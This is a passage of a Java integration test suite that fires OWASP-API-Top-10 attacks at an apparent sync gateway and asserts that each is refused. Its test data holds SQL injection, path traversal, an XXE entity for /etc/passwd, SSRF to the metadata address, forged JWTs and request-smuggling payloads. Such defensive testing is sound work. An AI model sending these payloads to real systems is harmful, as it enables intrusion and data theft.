package io.syncline.e2e.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jwt.JWTClaimsSet;
import io.syncline.e2e.FakeIssuer;
import io.syncline.e2e.SyncCluster;
import io.syncline.model.credential.TokenHash;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Date;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ConcurrentSkipListMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Attacks on a whole site, sorted as the OWASP API Security Top 10 of 2023; then 100,000 requests that are none. */
class AttacksIT {

    private static final String API = "/phoenix_kit/sync/api/";
    private static final int FUZZED = 100_000;
    private static final long SEED = 20_260_101L;
    private static final int FUZZERS = 8;

    private static final String INCOMING_PASSWORD = "the-incoming-password";
    /** In every row that nobody may ever see. */
    private static final String SECRET = "the-secret";
    /** Whose names alone keep them from being served. */
    private static final List<String> NEVER_SERVED = List.of("phoenix_kit_user_tokens", "phoenix_kit_settings",
            "phoenix_kit_sync_connections", "schema_migrations", "oban_jobs", "pg_secrets");
    /** A name that is SQL, or not, as somebody reads it. */
    private static final String ODD = "odd \"name'; --";
    private static final List<String> SERVED = List.of("goods", ODD, "orders", "salaries");

    @TempDir static Path directory;

    private static SyncCluster cluster;
    private static FakeIssuer issuer;
    private static SyncCluster.Gateway gateway;
    private static int port;

    private static String victim;
    private static String victimHash;
    private static String other;
    private static String otherHash;
    private static String excludingHash;
    private static String suspendedHash;
    private static String walledHash;
    private static String unwalledHash;
    private static String rotatedHash;
    private static String newHash;
    private static String receiverHash;
    private static String viewer;
    private static String auditor;
    private static String issued;
    private static String operator;

    private static final AtomicInteger THROWN_AWAY = new AtomicInteger();

    /**
     * @param what      is tried
     * @param allowed   what it may get
     * @param permitted what differs from it by that alone which is not allowed, and is done: so nothing else is what refuses
     *                  it; empty where nobody may anything like it
     */
    private record Attack(String what, String request, Set<Integer> allowed, String permitted) {

        Attack unlike(String other) {
            return new Attack(what, request, allowed, other);
        }
    }

    @BeforeAll
    static void start() throws Exception {
        cluster = SyncCluster.start(directory);
        fillSource();
        cluster.startWorker();
        issuer = new FakeIssuer();
        // As many passwords at once as there are callers: nobody is told that too many wait already, however slow it goes.
        gateway = cluster.startGateway(Stream.concat(Stream.of("--syncline.gateway.password-checks=" + FUZZERS),
                Arrays.stream(issuer.settings())).toArray(String[]::new));
        port = URI.create(gateway.base()).getPort();
        Awaitility.await()
                .atMost(Duration.ofMinutes(2))
                .until(() -> gateway.admin("PATCH", "/settings",
                        "{\"enabled\":true,\"incoming_mode\":\"require_password\",\"incoming_password\":\""
                                + INCOMING_PASSWORD
                                + "\"}")
                        .statusCode() == 200);
        Sender first = sender("http://victim.example", "");
        victim = first.uuid();
        victimHash = first.hash();
        Sender second = sender("http://other.example", ",\"allowed_tables\":[\"goods\"]");
        other = second.uuid();
        otherHash = second.hash();
        excludingHash = sender("http://excluding.example", ",\"excluded_tables\":[\"salaries\"]").hash();
        walledHash = sender("http://walled.example", ",\"ip_whitelist\":[\"203.0.113.0/24\"]").hash();
        unwalledHash = sender("http://unwalled.example", ",\"ip_whitelist\":[\"127.0.0.0/8\"]").hash();
        Sender rotated = sender("http://rotated.example", "");
        rotatedHash = rotated.hash();
        newHash = hashIn(gateway.admin("POST", "/connections/" + rotated.uuid() + "/rotate-token",
                "{\"overlap_seconds\":0}"));
        suspendedHash = suspended(sender("http://suspended.example", "")).hash();
        receiverHash = TokenHash.ofToken("token-of-the-registered").text();
        json(gateway.call("register-connection", """
                {"sender_url":"http://registered.example","connection_name":"R","auth_token":"token-of-the-registered",
                "password":"the-incoming-password"}"""));
        viewer = appoint("a-viewer", "viewer");
        auditor = appoint("an-auditor", "auditor");
        issued = issuer.token("fuzz", "syncline-viewer");
        operator = appoint("an-operator", "operator");
        Awaitility.await("the tables are served")
                .atMost(Duration.ofMinutes(2))
                .untilAsserted(() -> SERVED.forEach(table -> assertThat(
                        gateway.call("table-records", "{\"auth_token_hash\":\"" + victimHash + "\",\"table_name\":"
                                + json(table) + "}").statusCode())
                        .isEqualTo(200)));
    }

    /** Before anybody captures it: what is not to be served had all the time that the rest has had. */
    private static void fillSource() throws SQLException {
        try (Connection source = cluster.database().connect("site"); Statement statement = source.createStatement()) {
            for (String table : NEVER_SERVED) {
                statement.execute("CREATE TABLE " + table + " (id int PRIMARY KEY, t text); INSERT INTO " + table
                        + " VALUES (1, '" + SECRET + "')");
            }
            statement.execute("CREATE TABLE goods (id int PRIMARY KEY, name text);"
                    + " INSERT INTO goods SELECT n, 'thing ' || n FROM generate_series(1, 200) n;"
                    + " CREATE VIEW goods_seen AS SELECT * FROM goods;"
                    + " CREATE TABLE orders (shop text, number int, what text, PRIMARY KEY (shop, number));"
                    + " INSERT INTO orders SELECT 'shop ' || n % 7, n, 'thing ' || n FROM generate_series(1, 200) n;"
                    + " CREATE TABLE salaries (id int PRIMARY KEY, amount numeric);"
                    + " INSERT INTO salaries VALUES (1, 12.50);"
                    + " CREATE TABLE \"" + ODD.replace("\"", "\"\"") + "\" (id int PRIMARY KEY)");
            // Last: a schema of the user's name is where tables are made from then on.
            statement.execute("CREATE SCHEMA syncline; CREATE TABLE syncline.connection (id int PRIMARY KEY, t text);"
                    + " INSERT INTO syncline.connection VALUES (1, '" + SECRET + "')");
        }
    }

    @AfterAll
    static void stop() throws Exception {
        issuer.close();
        cluster.close();
    }

    private static JsonNode json(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isBetween(200, 299);
        return JsonMapper.shared().readTree(response.body());
    }

    private static String json(String text) {
        return JsonMapper.shared().writeValueAsString(text);
    }

    /** A connection over which our tables may be pulled, with the hash that opens it. */
    private record Sender(String site, String uuid, String hash) {}

    private static Sender sender(String site, String more) {
        HttpResponse<String> made = gateway.admin("POST", "/connections",
                "{\"direction\":\"sender\",\"name\":\"S\",\"status\":\"active\",\"site_url\":\"" + site + "\"" + more
                        + "}");
        return new Sender(site, json(made).path("uuid").asString(), hashIn(made));
    }

    private static String hashIn(HttpResponse<String> made) {
        return TokenHash.ofToken(json(made).path("auth_token").asString()).text();
    }

    private static Sender suspended(Sender sender) {
        json(gateway.admin("POST", "/connections/" + sender.uuid() + "/suspend", "{\"reason\":\"r\"}"));
        return sender;
    }

    /** One that may be changed and deleted. */
    private static Sender thrownAway() {
        return sender(newSite(), "");
    }

    private static String newSite() {
        return "http://thrown-away-" + THROWN_AWAY.incrementAndGet() + ".example";
    }

    private static String appoint(String name, String role) {
        return json(gateway.admin("POST", "/operators", "{\"name\":\"" + name + "\",\"role\":\"" + role + "\"}"))
                .path("token")
                .asString();
    }

    /** Settings, operators, every connection, and the tables: what no attack may change. */
    private static String state() {
        StringBuilder state = new StringBuilder(gateway.admin("GET", "/settings", null).body())
                .append(gateway.admin("GET", "/operators", null).body())
                .append(gateway.admin("GET", "/connections?limit=500", null).body());
        assertThat(state).doesNotContain("next_cursor");
        for (String table : SERVED) {
            state.append(gateway.call("pull-data",
                    "{\"auth_token_hash\":\"" + victimHash + "\",\"table_name\":" + json(table) + "}").body());
        }
        return state.toString();
    }

    // ---- requests

    private static String peer(String call, String json) {
        return post(API + call, "", json);
    }

    private static String post(String path, String headers, String json) {
        return with("POST", path, "Content-Type: application/json\r\n" + headers, json);
    }

    private static String with(String method, String path, String headers, String body) {
        return method + " " + path + " HTTP/1.1\r\nHost: attacked.example\r\n" + headers + "Content-Length: "
                + body.getBytes(StandardCharsets.UTF_8).length + "\r\n\r\n" + body;
    }

    private static String get(String path, String headers) {
        return "GET " + path + " HTTP/1.1\r\nHost: attacked.example\r\n" + headers + "\r\n";
    }

    private static String as(String token, String method, String path, String json) {
        return with(method, "/admin/api" + path,
                "Authorization: Bearer " + token + "\r\n"
                        + (json.isEmpty() ? "" : "Content-Type: application/json\r\n"),
                json);
    }

    private static String hash(String call, String hash, String more) {
        return peer(call, "{\"auth_token_hash\":\"" + hash + "\"" + more + "}");
    }

    /** Attacks that differ from the same call, which is permitted. */
    private static Stream<Attack> unlike(String permitted, Attack... attacks) {
        return Arrays.stream(attacks).map(attack -> attack.unlike(permitted));
    }

    @SafeVarargs
    private static List<Attack> all(Stream<Attack>... attacks) {
        return Stream.of(attacks).flatMap(Function.identity()).toList();
    }

    private static String table(String call, String hash, String table) {
        return hash(call, hash, ",\"table_name\":" + json(table));
    }

    private static String records(String more) {
        return hash("table-records", victimHash, ",\"table_name\":\"goods\"," + more);
    }

    private static Attack attack(String what, String request, Integer... allowed) {
        return new Attack(what, request, Set.of(allowed), "");
    }

    private static String site(String call, String url, String hash, String more) {
        return peer(call, "{\"sender_url\":\"" + url + "\",\"auth_token_hash\":\"" + hash + "\"" + more + "}");
    }

    private static List<Attack> objectLevelAuthorization() {
        String verify = site("verify-connection", "http://victim.example", victimHash, "");
        String report = site("update-status", "http://registered.example", receiverHash, ",\"status\":\"active\"");
        List<Attack> attacks = new ArrayList<>(List.of(
                attack("verify another site's record with one's own hash",
                        site("verify-connection", "http://victim.example", otherHash, ""), 404).unlike(verify),
                attack("delete another site's record with one's own hash",
                        site("delete-connection", "http://victim.example", otherHash, ""), 404)
                        .unlike(deletion(thrownAway())),
                attack("suspend another site's record with one's own hash",
                        site("update-status", "http://registered.example", otherHash, ",\"status\":\"suspended\""),
                        404).unlike(report),
                attack("revoke a sender record of ours as its receiver",
                        site("update-status", "http://victim.example", victimHash, ",\"status\":\"revoked\""), 404)
                        .unlike(report),
                attack("lift what our operator imposed",
                        site("update-status", "http://suspended.example", suspendedHash, ",\"status\":\"active\""),
                        404).unlike(report),
                attack("name a site with another case",
                        site("verify-connection", "HTTP://VICTIM.EXAMPLE", victimHash, ""), 404).unlike(verify),
                attack("name a site with a slash more",
                        site("delete-connection", "http://victim.example/", victimHash, ""), 404)
                        .unlike(deletion(thrownAway())),
                attack("a connection by its UUID instead of its hash",
                        hash("list-tables", victim, ""), 401).unlike(hash("list-tables", victimHash, "")),
                attack("another connection's UUID as an operator's subject without a token",
                        get("/admin/api/connections/" + victim, ""), 401)
                        .unlike(as(viewer, "GET", "/connections/" + victim, ""))));
        for (String call : List.of("table-schema", "table-records", "pull-data")) {
            attacks.add(attack(call + " of a table that is not allowed for this connection",
                    table(call, otherHash, "orders"), 404).unlike(table(call, victimHash, "orders")));
            attacks.add(attack(call + " of a table that is excluded from this connection",
                    table(call, excludingHash, "salaries"), 404).unlike(table(call, victimHash, "salaries")));
            Stream.concat(NEVER_SERVED.stream(), Stream.of("syncline.connection", "connection", "goods_seen"))
                    .forEach(table -> attacks.add(attack(call + " of " + table, table(call, victimHash, table), 404)
                            .unlike(table(call, victimHash, "goods"))));
        }
        return attacks;
    }

    private static String deletion(Sender sender) {
        return site("delete-connection", sender.site(), sender.hash(), "");
    }

    private static List<Attack> authentication() {
        String list = hash("list-tables", victimHash, "");
        String settings = as(SyncCluster.ADMIN_TOKEN, "GET", "/settings", "");
        return all(unlike(list, attack("no hash", hash("list-tables", "", ""), 400),
                attack("the empty text's hash", hash("list-tables", TokenHash.ofToken("").text(), ""), 401),
                attack("a hash in upper case", hash("list-tables", victimHash.toUpperCase(java.util.Locale.ROOT), ""),
                        401),
                attack("a hash with a space behind it", hash("list-tables", victimHash + " ", ""), 401),
                attack("half a hash", hash("list-tables", victimHash.substring(0, 32), ""), 401),
                attack("a hash's own hash", hash("list-tables", TokenHash.ofToken(victimHash).text(), ""), 401),
                attack("true instead of a hash", peer("list-tables", "{\"auth_token_hash\":true}"), 400),
                attack("a list of hashes", peer("list-tables", "{\"auth_token_hash\":[\"" + victimHash + "\"]}"), 400),
                attack("an object that matches anything", peer("list-tables", "{\"auth_token_hash\":{\"$ne\":null}}"),
                        400),
                attack("null", peer("list-tables", "{\"auth_token_hash\":null}"), 400),
                attack("a hash twice, the second one right",
                        peer("list-tables", "{\"auth_token_hash\":\"x\",\"auth_token_hash\":\"" + victimHash + "\"}"),
                        400),
                attack("a suspended connection's hash", hash("list-tables", suspendedHash, ""), 403),
                attack("the hash of a receiver record, which pulls nothing", hash("list-tables", receiverHash, ""),
                        401)),
                unlike(hash("list-tables", newHash, ""),
                        attack("the hash of a token that there is another one for",
                                hash("list-tables", rotatedHash, ""),
                                401)),
                unlike(register(newSite()), attack("register without the password", peer("register-connection",
                        "{\"sender_url\":\"http://new.example\",\"connection_name\":\"N\",\"auth_token\":\"t\"}"), 401),
                        attack("register with another password", peer("register-connection",
                                "{\"sender_url\":\"http://new.example\",\"connection_name\":\"N\",\"auth_token\":\"t\",\"password\":\"x\"}"),
                                401),
                        attack("register with a password that is a number", peer("register-connection",
                                "{\"sender_url\":\"http://new.example\",\"connection_name\":\"N\",\"auth_token\":\"t\",\"password\":1}"),
                                400),
                        attack("register again for a site that is registered", peer("register-connection",
                                "{\"sender_url\":\"http://registered.example\",\"connection_name\":\"N\",\"auth_token\":\"mine\","
                                        + "\"password\":\"" + INCOMING_PASSWORD + "\"}"),
                                409)),
                unlike(settings,
                        attack("a peer's hash as an operator's token", as(victimHash, "GET", "/settings", ""), 401),
                        attack("no scheme",
                                with("GET", "/admin/api/settings", "Authorization: " + SyncCluster.ADMIN_TOKEN + "\r\n",
                                        ""),
                                401),
                        attack("another scheme",
                                with("GET", "/admin/api/settings",
                                        "Authorization: Basic " + SyncCluster.ADMIN_TOKEN + "\r\n",
                                        ""),
                                401),
                        attack("a token in the query",
                                get("/admin/api/settings?access_token=" + SyncCluster.ADMIN_TOKEN, ""),
                                401),
                        attack("a token that only begins right",
                                as(SyncCluster.ADMIN_TOKEN.substring(0, 10), "GET", "/settings", ""), 401),
                        attack("a token of which no signature is asked",
                                as("eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGVzIjpbIm9wZXJhdG9yIl19.", "GET",
                                        "/settings",
                                        ""),
                                401)));
    }

    private static List<Attack> issuedTokens() {
        JWTClaimsSet claims = issuer.claims("mallory", "syncline-operator").build();
        RSAKey own = FakeIssuer.newKey(issuer.key().getKeyID());
        JWSHeader plain = new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(own.getKeyID()).build();
        String genuine = issuer.token("mallory", "syncline-viewer");
        String signature = genuine.substring(genuine.lastIndexOf('.'));
        String elsewhere = "http://127.0.0.1:" + port + "/keys";
        return List.of(change("a token without signature", FakeIssuer.unsigned(claims), 401),
                change("alg none in other letters",
                        base64("{\"alg\":\"nOnE\"}") + "." + base64(claims.toString()) + ".", 401),
                change("HS256 with the public key as the secret", issuer.signedWithThePublicKey(claims), 401),
                change("a key of one's own under the issuer's key id", FakeIssuer.signed(claims, own), 401),
                change("a key of one's own, brought along",
                        FakeIssuer.signed(new JWSHeader.Builder(plain).jwk(own.toPublicJWK()).build(), claims, own),
                        401),
                change("a key of one's own, to be fetched",
                        FakeIssuer.signed(new JWSHeader.Builder(plain).jwkURL(URI.create(elsewhere)).build(), claims,
                                own),
                        401),
                change("a key id that is a path",
                        FakeIssuer.signed(claims, new RSAKey.Builder(own).keyID("../../../dev/null").build()), 401),
                change("other claims under a genuine signature",
                        genuine.substring(0, genuine.indexOf('.')) + "." + base64(claims.toString()) + signature, 401),
                change("the genuine signature taken away", genuine.substring(0, genuine.lastIndexOf('.') + 1), 401),
                change("an extension that must be understood",
                        FakeIssuer.signed(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(own.getKeyID())
                                .criticalParams(Set.of("x"))
                                .customParam("x", 1)
                                .build(), claims, issuer.key()),
                        401),
                change("claims nested beyond all depth",
                        base64("{\"alg\":\"RS256\"}") + "." + base64("{\"iss\":" + "[".repeat(5_000)) + signature, 401),
                change("a token for another program",
                        issuer.signed(new JWTClaimsSet.Builder(claims).audience("another").build()), 401),
                change("a token of last year",
                        issuer.signed(new JWTClaimsSet.Builder(claims).expirationTime(new Date(1_000_000_000_000L))
                                .build()),
                        401),
                change("a viewer's token", genuine, 403),
                attack("an issued operator makes operators", as(issuer.token("mallory", "syncline-operator"), "POST",
                        "/operators", "{\"name\":\"mallory\",\"role\":\"operator\"}"), 403)
                        .unlike(as(SyncCluster.ADMIN_TOKEN, "POST", "/operators",
                                "{\"name\":\"somebody\",\"role\":\"operator\"}")));
    }

    private static Attack change(String what, String token, Integer allowed) {
        return attack(what, as(token, "PATCH", "/settings", "{\"enabled\":false}"), allowed).unlike(
                as(issuer.token("somebody", "syncline-operator"), "PATCH", "/settings", "{\"enabled\":true}"));
    }

    private static String base64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<Attack> propertyLevelAuthorization() {
        return all(
                unlike(as(SyncCluster.ADMIN_TOKEN, "POST", "/connections", making("\"notify\":false")),
                        attack("set a fingerprint",
                                as(SyncCluster.ADMIN_TOKEN, "POST", "/connections",
                                        making("\"fingerprint\":\"" + "a".repeat(64) + "\"")),
                                400),
                        attack("set who made it",
                                as(SyncCluster.ADMIN_TOKEN, "POST", "/connections", making("\"created_by\":\"x\"")),
                                400)),
                unlike(as(operator, "PATCH", "/connections/" + victim, "{\"name\":\"S\"}"),
                        attack("change the site of a connection",
                                as(operator, "PATCH", "/connections/" + victim,
                                        "{\"site_url\":\"http://evil.example\"}"),
                                400),
                        attack("change the status by a field",
                                as(operator, "PATCH", "/connections/" + victim, "{\"status\":\"revoked\"}"), 400),
                        attack("change the token by a field",
                                as(operator, "PATCH", "/connections/" + victim, "{\"auth_token\":\"mine\"}"), 400)),
                unlike(as(operator, "PATCH", "/settings", "{\"enabled\":true}"),
                        attack("change the operators by the settings",
                                as(operator, "PATCH", "/settings", "{\"operators\":[]}"), 400),
                        attack("change the revision of the password",
                                as(operator, "PATCH", "/settings", "{\"password_revision\":0}"), 400),
                        attack("the prototype of an object",
                                as(operator, "PATCH", "/settings", "{\"__proto__\":{\"enabled\":false}}"), 400),
                        attack("a type name for the parser",
                                as(operator, "PATCH", "/settings",
                                        "{\"@class\":\"java.net.URL\",\"val\":\"http://x\"}"),
                                400)));
    }

    private static String making(String more) {
        return "{\"direction\":\"sender\",\"name\":\"S\",\"site_url\":\"" + newSite() + "\"," + more + "}";
    }

    private static List<Attack> resourceConsumption() {
        return all(
                unlike(hash("list-tables", victimHash, ",\"x\":\"" + "y".repeat(900_000) + "\""),
                        attack("a body of more than a megabyte",
                                hash("list-tables", victimHash, ",\"x\":\"" + "y".repeat(1_100_000) + "\""), 413),
                        attack("a body of a gigabyte, announced",
                                "POST " + API + "list-tables HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                                        + "Content-Length: 1073741824\r\n\r\n{",
                                413)),
                unlike(hash("list-tables", victimHash, ",\"x\":[[[{\"a\":" + "9".repeat(50) + "}]]]"),
                        attack("brackets, a hundred thousand deep",
                                hash("list-tables", victimHash, ",\"x\":" + "[".repeat(100_000)), 400),
                        attack("objects, a hundred thousand deep",
                                hash("list-tables", victimHash, ",\"x\":" + "{\"a\":".repeat(100_000)), 400),
                        attack("a number of half a million digits",
                                hash("list-tables", victimHash, ",\"x\":" + "9".repeat(500_000)), 400)),
                unlike(records("\"limit\":\"99\",\"offset\":1"),
                        attack("an exponent that fills the memory", records("\"limit\":1e999999999"), 400),
                        attack("a limit beyond all numbers", records("\"limit\":\"99999999999999999999\""), 400),
                        attack("a negative offset", records("\"offset\":-1"), 400)),
                unlike(records("\"ids\":[" + "1,".repeat(999) + "1]"),
                        attack("a hundred thousand ids", records("\"ids\":[" + "1,".repeat(99_999) + "1]"), 400)),
                unlike(register(newSite()),
                        attack("a name of a quarter of a megabyte", peer("register-connection",
                                "{\"sender_url\":\"" + newSite() + "\",\"connection_name\":\"" + "n".repeat(250_000)
                                        + "\",\"auth_token\":\"t\",\"password\":\"" + INCOMING_PASSWORD + "\"}"),
                                400),
                        attack("a URL of ten thousand characters", register(newSite() + "/" + "a".repeat(10_000)),
                                400)),
                unlike(get(API + "status", "X-A: b\r\n"),
                        attack("headers without end", get(API + "status", "X-A: b\r\n".repeat(2_000)), 400, 431, 0),
                        attack("a header of a hundred kilobytes",
                                get(API + "status", "X-A: " + "b".repeat(100_000) + "\r\n"), 400, 431, 0),
                        attack("a path of fifty kilobytes", get("/" + "a".repeat(50_000), ""), 400, 414, 431, 0)),
                unlike(as(viewer, "GET", "/connections?limit=500", ""),
                        attack("a page of all connections", as(viewer, "GET", "/connections?limit=1000000", ""), 400)),
                unlike(as(auditor, "GET", "/events?limit=1", ""),
                        attack("a page of all events", as(auditor, "GET", "/events?limit=-1", ""), 400),
                        attack("a cursor of a million partitions", as(auditor, "GET", "/events?cursor="
                                + Base64.getUrlEncoder()
                                        .encodeToString("1:1,".repeat(1_000).getBytes(StandardCharsets.US_ASCII)),
                                ""), 400)),
                unlike(as(operator, "POST", "/connections/" + thrownAway().uuid() + "/rotate-token",
                        "{\"overlap_seconds\":86400}"),
                        attack("an overlap of a thousand years",
                                as(operator, "POST", "/connections/" + victim + "/rotate-token",
                                        "{\"overlap_seconds\":31536000000}"),
                                400)));
    }

    private static List<Attack> functionLevelAuthorization() {
        List<Attack> attacks = new ArrayList<>();
        for (String[] who : new String[][]{{"a viewer", viewer}, {"an auditor", auditor}}) {
            attacks.add(
                    attack(who[0] + " changes the settings", as(who[1], "PATCH", "/settings", "{\"enabled\":false}"),
                            403).unlike(as(operator, "PATCH", "/settings", "{\"enabled\":true}")));
            attacks.add(attack(who[0] + " makes a connection",
                    as(who[1], "POST", "/connections", making("\"notify\":false")), 403)
                    .unlike(as(operator, "POST", "/connections", making("\"notify\":false"))));
            attacks.add(
                    attack(who[0] + " deletes a connection", as(who[1], "DELETE", "/connections/" + victim, ""), 403)
                            .unlike(as(operator, "DELETE", "/connections/" + thrownAway().uuid(), "")));
            attacks.add(attack(who[0] + " lifts what was imposed",
                    as(who[1], "POST", "/connections/" + suspended(thrownAway()).uuid() + "/reactivate", ""), 403)
                    .unlike(as(operator, "POST", "/connections/" + suspended(thrownAway()).uuid() + "/reactivate",
                            "")));
            attacks.add(attack(who[0] + " approves",
                    as(who[1], "POST", "/connections/" + victim + "/approve", ""), 403));
            attacks.add(attack(who[0] + " takes a new token",
                    as(who[1], "POST", "/connections/" + victim + "/rotate-token", ""), 403)
                    .unlike(as(operator, "POST", "/connections/" + thrownAway().uuid() + "/rotate-token", "")));
        }
        attacks.add(attack("a viewer reads the log", as(viewer, "GET", "/events", ""), 403)
                .unlike(as(auditor, "GET", "/events", "")));
        unlike(as(SyncCluster.ADMIN_TOKEN, "POST", "/operators", "{\"name\":\"appointed\",\"role\":\"operator\"}"),
                attack("an operator appoints an operator",
                        as(operator, "POST", "/operators", "{\"name\":\"mallory\",\"role\":\"operator\"}"), 403),
                attack("an operator takes the name of the first one",
                        as(SyncCluster.ADMIN_TOKEN, "POST", "/operators",
                                "{\"name\":\"admin\",\"role\":\"viewer\"}"),
                        400))
                .forEach(attacks::add);
        appoint("dismissed", "viewer");
        attacks.add(attack("an operator dismisses one", as(operator, "DELETE", "/operators/a-viewer", ""), 403)
                .unlike(as(SyncCluster.ADMIN_TOKEN, "DELETE", "/operators/dismissed", "")));
        attacks.add(attack("another method by a header", with("POST", "/admin/api/connections/" + victim,
                "X-HTTP-Method-Override: DELETE\r\n", ""), 401));
        attacks.add(attack("another path by a header",
                get("/", "X-Original-URL: /admin/api/settings\r\nX-Rewrite-URL: /admin/api/settings\r\n"), 404));
        attacks.add(
                attack("an operator's path around the gate", get("/phoenix_kit/..;/admin/api/settings", ""), 400, 401,
                        404));
        attacks.add(attack("an operator's path with a semicolon", get("/admin/api;x=y/settings", ""), 400, 401, 404));
        attacks.add(attack("an operator's path, encoded", get("/%61dmin/api/settings", ""), 400, 401, 404));
        attacks.add(attack("an operator's path, encoded twice", get("/%2561dmin/api/settings", ""), 400, 404));
        attacks.add(attack("an operator's path in capitals", get("/ADMIN/API/settings", ""), 404));
        attacks.add(attack("an operator's path with two slashes", get("//admin/api/settings", ""), 400, 401, 404));
        return attacks;
    }

    private static List<Attack> businessFlows() {
        return all(unlike(register(newSite()),
                attack("register a site under a URL with a user in it", register("http://user:pass@victim.example"),
                        400),
                attack("register a site without a host", register("http://"), 400),
                attack("register a site of another scheme", register("file:///etc/passwd"), 400),
                attack("register a site by a script", register("javascript:alert(1)"), 400),
                attack("register a relative site", register("//victim.example"), 400),
                attack("register a site with a line break", register("http://a.example\\r\\nX: y"), 400),
                attack("register a site with NUL", register("http://a.example/\\u0000"), 400)),
                unlike(site("update-status", "http://registered.example", receiverHash, ",\"status\":\"active\""),
                        attack("set a status that there is not",
                                site("update-status", "http://registered.example", receiverHash,
                                        ",\"status\":\"expired\""),
                                400),
                        attack("set a status in capitals",
                                site("update-status", "http://registered.example", receiverHash,
                                        ",\"status\":\"ACTIVE\""),
                                400),
                        attack("set a status of another kind",
                                site("update-status", "http://registered.example", receiverHash,
                                        ",\"status\":[\"active\"]"),
                                400)));
    }

    private static String register(String url) {
        return peer("register-connection", "{\"sender_url\":\"" + url
                + "\",\"connection_name\":\"n\",\"auth_token\":\"t\",\"password\":\"" + INCOMING_PASSWORD
                + "\"}");
    }

    private static List<Attack> serverSideRequests() {
        return all(
                unlike(site("verify-connection", "http://victim.example", victimHash, ""),
                        attack("a site on the metadata service, by an odd literal, is called by nobody",
                                site("verify-connection", "http://169.254.169.254/latest/meta-data", victimHash, ""),
                                404)),
                unlike(get(API + "status", ""),
                        attack("an absolute request line",
                                "GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", 404,
                                400),
                        attack("a tunnel", "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
                                400, 404, 405)),
                unlike(receiver(victimHash), attack("a receiver that calls back", receiver("x"), 404)));
    }

    private static String receiver(String hash) {
        return hash("get-connection-status", hash, ",\"receiver_url\":\"http://127.0.0.1:22\"");
    }

    private static List<Attack> misconfiguration() {
        List<Attack> attacks = new ArrayList<>();
        for (String path : List.of("/actuator/env", "/actuator/heapdump", "/actuator/beans", "/actuator/loggers",
                "/actuator/shutdown", "/actuator/threaddump", "/actuator/configprops", "/.env", "/.git/config",
                "/error",
                "/swagger-ui.html", "/WEB-INF/web.xml", "/console")) {
            attacks.add(attack("is there " + path, get(path, ""), 404));
        }
        attacks.add(attack("TRACE", "TRACE / HTTP/1.1\r\nHost: a\r\nX-Secret: s\r\n\r\n", 400, 404, 405));
        attacks.add(attack("OPTIONS from another origin", with("OPTIONS", API + "pull-data",
                "Origin: http://evil.example\r\nAccess-Control-Request-Method: POST\r\n", ""), 403, 405));
        String list = "{\"auth_token_hash\":\"" + victimHash + "\"}";
        unlike(peer("list-tables", list), attack("another content type", with("POST", API + "list-tables",
                "Content-Type: application/xml\r\n",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
                415),
                attack("a form", with("POST", API + "list-tables",
                        "Content-Type: application/x-www-form-urlencoded\r\n", "auth_token_hash=" + victimHash), 415),
                attack("JSON in UTF-16", with("POST", API + "list-tables",
                        "Content-Type: application/json; charset=utf-16\r\n", list), 415))
                .forEach(attacks::add);
        attacks.add(attack("two lengths", "POST " + API + "list-tables HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n"
                + "Content-Length: 9\r\n\r\n{}GET / H", 400));
        attacks.add(attack("a length and chunks", "POST " + API
                + "list-tables HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                411,
                400));
        attacks.add(attack("no host", "GET " + API + "status HTTP/1.1\r\n\r\n", 400));
        attacks.add(attack("a folded header", get(API + "status", "X-A: b\r\n c: d\r\n"), 400, 200));
        attacks.add(attack("a header with a bare carriage return", get(API + "status", "X-A: b\rX-B: c\r\n"), 400));
        return attacks;
    }

    private static List<Attack> injection() {
        return all(
                // Names like these are looked for as names.
                unlike(table("pull-data", victimHash, ODD),
                        attack("a table by SQL", table("pull-data", victimHash, "x; DROP TABLE orders"), 404),
                        attack("a table by a quote", table("pull-data", victimHash, "\" OR 1=1 --"), 404),
                        attack("a table by a path", table("pull-data", victimHash, "../../etc/passwd"), 404)),
                unlike(table("pull-data", victimHash, "orders"),
                        attack("a table with NUL", table("pull-data", victimHash, "orders\0"), 404),
                        attack("a table of another schema", table("pull-data", victimHash, "public.orders"), 404),
                        attack("a catalogue's table", table("pull-data", victimHash, "pg_catalog.pg_authid"), 404),
                        attack("a system's table", table("table-schema", victimHash, "pg_authid"), 404)),
